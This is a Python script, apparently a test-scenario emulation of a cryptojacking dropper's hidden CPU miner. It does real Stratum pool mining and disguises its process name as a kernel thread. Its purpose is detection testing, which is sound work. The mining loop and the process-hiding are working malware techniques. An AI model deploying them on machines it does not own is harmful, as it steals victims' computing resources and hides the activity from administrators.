#!/usr/bin/env python3
"""miner.py - the hidden CPU miner of the `cryptojacking` scenario.

Our own emulation (Python 3, standard library only) of a cpuminer-style
Stratum v1 miner, as cryptojacking loaders drop it: it reads a JSON
configuration (pool URL stratum+tcp:// or stratum+ssl://, login, password,
threads, CPU limit, user agent, ...), connects to the pool and does real
proof of work - double SHA-256 over the 80-byte block header built from
each mining.notify job (coinbase = coinb1 + extranonce1 + extranonce2 +
coinb2, merkle root from the branch, version, prevhash, ntime, nbits,
nonce) against the share target of mining.set_difficulty - and submits
every share found with mining.submit, printing cpuminer's log lines
("accepted: 3/3 (100.00%), 512.3 khash/s (yay!!!)").

What it sends: mining.subscribe ["<agent>"], optionally
mining.extranonce.subscribe and mining.suggest_difficulty, then
mining.authorize [login, password]; it follows mining.set_difficulty
(applied from the next job, as cpuminer does), mining.notify (clean_jobs
restarts the work, stale shares are still sent when found before the
notice arrives), and reconnects after "retry-pause" seconds when the pool
closes the connection.

It names its process after a kernel thread ("title", prctl PR_SET_NAME),
as hidden miners do.

To stay cheap on the test machine: "threads" worker processes (1-2), each
niced (optional) and held to "cpu-limit" percent of a core by a duty cycle,
and the whole miner stops after "duration" seconds (a real one runs
forever) - or, when no share has been accepted by then, at the first
accepted share, "grace" seconds later at most - writing its totals to
"stats" (JSON).

Usage: miner.py -c CONFIG.json
Exit status: 0 when at least one share was accepted, 1 otherwise.
"""

import getopt
import hashlib
import json
import multiprocessing as mp
import os
import queue
import socket
import ssl
import struct
import sys
import threading
import time

DIFF1 = 0x00000000FFFF0000000000000000000000000000000000000000000000000000


def stamp():
    return time.strftime("[%Y-%m-%d %H:%M:%S]")


def say(msg):
    print("%s %s" % (stamp(), msg), flush=True)


def sha256d(b):
    return hashlib.sha256(hashlib.sha256(b).digest()).digest()


def swap_words(hex32):
    b = bytes.fromhex(hex32)
    return b"".join(b[i:i + 4][::-1] for i in range(0, 32, 4))


# ---- worker processes ---------------------------------------------------------

def worker(idx, work_conn, shares, cpu_limit, nice):
    if nice:
        try:
            os.nice(19)
        except OSError:
            pass
    work = None
    nonce = 0
    batch = 2048
    hashes = 0
    t0 = time.time()
    while True:
        while work is None or work_conn.poll():
            msg = work_conn.recv()  # the latest work wins
            if msg is None:
                return
            work = msg
            nonce = 0
        gen, job_id, en2, ntime, prefix76, target = work
        top = min(255, target >> 248)
        base = hashlib.sha256(prefix76)
        start = time.time()
        for n in range(nonce, nonce + batch):
            h = base.copy()
            h.update(struct.pack("<I", n))
            d = hashlib.sha256(h.digest()).digest()
            if d[31] <= top and int.from_bytes(d[::-1], "big") <= target:
                shares.put(("share", gen, job_id, en2, ntime, "%08x" % n))
        nonce += batch
        hashes += batch
        busy = time.time() - start
        if cpu_limit < 100:
            time.sleep(busy * (100 - cpu_limit) / cpu_limit)
        if time.time() - t0 >= 2:
            shares.put(("rate", idx, hashes, time.time() - t0))
            hashes = 0
            t0 = time.time()


# ---- the Stratum client ----------------------------------------------------------

class Miner:
    def __init__(self, cfg):
        self.cfg = cfg
        url = cfg["url"]
        scheme, _, rest = url.partition("://")
        host, _, port = rest.rstrip("/").rpartition(":")
        self.tls = scheme in ("stratum+ssl", "stratum+tls")
        self.host, self.port = host, int(port)
        self.threads = int(cfg.get("threads", 1))
        self.duration = float(cfg.get("duration", 30))
        self.grace = float(cfg.get("grace", 20))
        self.started = time.time()
        self.end = self.started + self.duration
        self.shares = mp.Queue()
        self.workers = []
        self.msg_id = 0
        self.pending = {}
        self.accepted = 0
        self.rejected = 0
        self.submitted = 0
        self.jobs = 0
        self.connects = 0
        self.rates = {}
        self.total_hashes = 0
        self.difficulty = None
        self.next_difficulty = 1.0
        self.extranonce1 = None
        self.en2_size = 4
        self.en2_counter = 0
        self.sock = None
        self.wlock = threading.Lock()
        self.connected = threading.Event()
        self.authorized = False
        self.authorize_failed = False
        self.reject_reasons = {}

    # -- wire
    def send(self, method, params):
        with self.wlock:
            self.msg_id += 1
            mid = self.msg_id
            self.pending[mid] = method
            line = json.dumps({"id": mid, "method": method, "params": params}) + "\n"
            self.sock.sendall(line.encode())
        return mid

    def connect(self):
        raw = socket.create_connection((self.host, self.port), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE  # pools' self-signed certificates
            raw = ctx.wrap_socket(raw, server_hostname=self.host)
            say("TLS %s %s with %s" % (raw.version(), raw.cipher()[0], self.host))
        raw.settimeout(None)
        self.sock = raw
        self.connects += 1
        self.authorized = False
        self.send("mining.subscribe", [self.cfg.get("agent", "cpuminer/2.5.1")])
        if self.cfg.get("extranonce-subscribe"):
            self.send("mining.extranonce.subscribe", [])
        if self.cfg.get("suggest-difficulty"):
            self.send("mining.suggest_difficulty", [self.cfg["suggest-difficulty"]])
        self.send("mining.authorize", [self.cfg["user"], self.cfg.get("pass", "x")])
        self.connected.set()

    def reader(self, sock):
        f = sock.makefile("rb")
        try:
            for line in f:
                if not line.strip():
                    continue
                self.handle(json.loads(line))
        except (OSError, ValueError, ssl.SSLError) as err:
            say("stratum_recv_line failed: %s" % err)
        finally:
            if self.sock is sock:
                self.connected.clear()
                say("Stratum connection interrupted")

    def handle(self, msg):
        method = msg.get("method")
        if method == "mining.set_difficulty":
            self.next_difficulty = float(msg["params"][0])
            say("Stratum difficulty set to %g" % self.next_difficulty)
            return
        if method == "mining.notify":
            self.on_notify(msg["params"])
            return
        if method is not None:
            return
        sent = self.pending.pop(msg.get("id"), None)
        if sent == "mining.subscribe":
            result = msg["result"]
            self.extranonce1, self.en2_size = result[1], int(result[2])
            say("Stratum subscribed: extranonce1 %s, extranonce2 size %d" % (self.extranonce1, self.en2_size))
        elif sent == "mining.authorize":
            if msg.get("result") is True:
                self.authorized = True
                say("Stratum authorization as %s succeeded" % self.cfg["user"])
            else:
                self.authorize_failed = True
                say("Stratum authentication failed: %s" % (msg.get("error"),))
        elif sent == "mining.submit":
            if msg.get("result") is True:
                self.accepted += 1
                verdict = "(yay!!!)"
            else:
                self.rejected += 1
                err = msg.get("error") or [0, "rejected"]
                reason = err[1] if isinstance(err, list) and len(err) > 1 else str(err)
                self.reject_reasons[reason] = self.reject_reasons.get(reason, 0) + 1
                verdict = "(booooo) reason: %s" % reason
            total = self.accepted + self.rejected
            say("accepted: %d/%d (%.2f%%), %.1f khash/s %s"
                % (self.accepted, total, 100.0 * self.accepted / total, self.rate() / 1000, verdict))

    def on_notify(self, p):
        job_id, prevhash, coinb1, coinb2, branch, version, nbits, ntime, clean = p[:9]
        self.jobs += 1
        self.difficulty = self.next_difficulty
        target = int(DIFF1 / self.difficulty)
        if clean:
            say("Stratum requested work restart")
        for idx, (conn, _) in enumerate(self.workers):
            self.en2_counter += 1
            en2 = ("%0*x" % (2 * self.en2_size, self.en2_counter))[-2 * self.en2_size:]
            coinbase = bytes.fromhex(coinb1 + self.extranonce1 + en2 + coinb2)
            root = sha256d(coinbase)
            for h in branch:
                root = sha256d(root + bytes.fromhex(h))
            prefix = (bytes.fromhex(version)[::-1] + swap_words(prevhash) + root
                      + bytes.fromhex(ntime)[::-1] + bytes.fromhex(nbits)[::-1])
            conn.send((self.connects, job_id, en2, ntime, prefix, target))
        self.current_job = job_id

    def rate(self):
        return sum(r for r in self.rates.values())

    # -- main loop
    def start_workers(self):
        for idx in range(self.threads):
            parent, child = mp.Pipe()
            p = mp.Process(target=worker, args=(idx, child, self.shares,
                                                int(self.cfg.get("cpu-limit", 100)),
                                                bool(self.cfg.get("nice", True))), daemon=True)
            p.start()
            self.workers.append((parent, p))
        say("%d miner thread(s) started, using 'sha256d' algorithm, CPU limit %s%%"
            % (self.threads, self.cfg.get("cpu-limit", 100)))

    def run(self):
        self.start_workers()
        say("Starting Stratum on %s" % self.cfg["url"])
        retry = float(self.cfg.get("retry-pause", 5))
        while time.time() < self.end or (self.accepted == 0 and time.time() < self.end + self.grace):
            if not self.connected.is_set():
                if self.sock is not None:
                    try:
                        self.sock.close()
                    except OSError:
                        pass
                    self.sock = None
                    say("...retry after %g seconds" % retry)
                    time.sleep(retry)
                try:
                    self.connect()
                except OSError as err:
                    say("Stratum connection failed: %s" % err)
                    self.sock = socket.socket()  # so that the retry pause applies
                    continue
                threading.Thread(target=self.reader, args=(self.sock,), daemon=True).start()
            try:
                item = self.shares.get(timeout=0.2)
            except queue.Empty:
                continue
            if item[0] == "rate":
                _, idx, hashes, secs = item
                self.rates[idx] = hashes / secs
                self.total_hashes += hashes
                continue
            _, gen, job_id, en2, ntime, nonce = item
            if not self.connected.is_set() or not self.authorized or gen != self.connects:
                continue  # found while offline or for the last connection: dropped, as cpuminer does
            try:
                self.send("mining.submit", [self.cfg["user"], job_id, en2, ntime, nonce])
                self.submitted += 1
            except OSError as err:
                say("submit failed: %s" % err)
        # finish: let the last answers arrive
        time.sleep(0.5)
        for conn, p in self.workers:
            try:
                conn.send(None)
            except OSError:
                pass
        for conn, p in self.workers:
            p.join(2)
            if p.is_alive():
                p.terminate()
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
        stats = {"accepted": self.accepted, "rejected": self.rejected, "submitted": self.submitted,
                 "jobs": self.jobs, "connects": self.connects, "hashes": self.total_hashes,
                 "reject_reasons": self.reject_reasons, "authorized": not self.authorize_failed}
        say("stopping after %.0f s: %s" % (time.time() - self.started, json.dumps(stats, sort_keys=True)))
        if self.cfg.get("stats"):
            with open(self.cfg["stats"], "w") as f:
                json.dump(stats, f)
        return 0 if self.accepted > 0 else 1


def main(argv):
    opts, _ = getopt.getopt(argv, "c:", ["config="])
    path = None
    for o, v in opts:
        if o in ("-c", "--config"):
            path = v
    if not path:
        print("usage: miner.py -c CONFIG.json", file=sys.stderr)
        return 2
    with open(path) as f:
        cfg = json.load(f)
    if cfg.get("title"):
        # hide behind a kernel thread's name, as droppers do (prctl PR_SET_NAME)
        import ctypes
        ctypes.CDLL(None).prctl(15, cfg["title"].encode()[:15], 0, 0, 0)
    return Miner(cfg).run()


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
